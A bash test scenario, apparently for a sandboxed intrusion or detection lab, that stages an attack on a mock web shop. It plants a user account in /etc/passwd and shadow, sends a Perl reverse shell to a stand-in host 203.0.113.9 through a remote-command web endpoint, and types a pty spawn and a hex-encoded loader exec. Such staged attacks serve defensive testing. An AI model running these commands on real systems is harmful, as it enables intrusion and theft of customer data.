# shellcheck shell=bash disable=SC2034
HOST=app04
FORMAT=ENRICHED

# ask ADDRESS COMMAND: the client with this address has the web service run it.
ask() {
    outside curl -s -m 20 --interface "$1" "http://10.88.0.10:8080/run/$(/usr/bin/python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$2")"
}

scenario() {
    local python=(/usr/bin/python3 -S -B)
    mkdir -p /srv/shop /srv/theirs
    echo 'clerk:x:4060:4060::/srv:/bin/bash' >>/etc/passwd
    echo 'clerk:*:20000:0:99999:7:::' >>/etc/shadow
    echo 'clerk:x:4060:' >>/etc/group
    cp "$folder/../jobs/service.py" /srv/shop
    echo "name,card" >/srv/shop/customers.csv
    cp /bin/bash /srv/theirs/m
    {
        echo "${python[*]} -c 'import pty; pty.spawn(\"/bin/bash\")'"
        echo "su clerk"
        echo "id"
        echo "${python[*]} -c \"exec(bytes.fromhex('$(xxd -p "$folder/loader.py" | tr -d '\n')'))\""
        echo "exit"
        echo "exit"
        echo "exit"
    } >"$work/lines"
    outside "${python[@]}" -m http.server --bind 203.0.113.9 443 --directory /srv/theirs >/dev/null 2>&1 &
    outside "${python[@]}" -m http.server --bind 203.0.113.9 8443 --directory /srv/theirs >/dev/null 2>&1 &
    outside "${python[@]}" "$folder/typist.py" 203.0.113.9 "$work/lines" >/dev/null 2>&1 &
    inside /usr/bin/env -i PATH=/usr/bin:/bin HOME=/srv "${python[@]}" /srv/shop/service.py >/dev/null 2>&1 &
    sleep 2
    inside /usr/bin/env -i PATH=/usr/bin:/bin script -q -c "cp /srv/shop/customers.csv /srv/shop/backup.csv; sleep 9" /dev/null </dev/null >/dev/null 2>&1 &
    ask 192.0.2.7 date
    ask 198.51.100.23 "perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"203.0.113.9\")));open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'" &
    sleep 3
    ask 192.0.2.7 "gzip -c /srv/shop/backup.csv > /srv/shop/backup.gz"
    sleep 5
    ask 192.0.2.7 date
    sleep 1
}
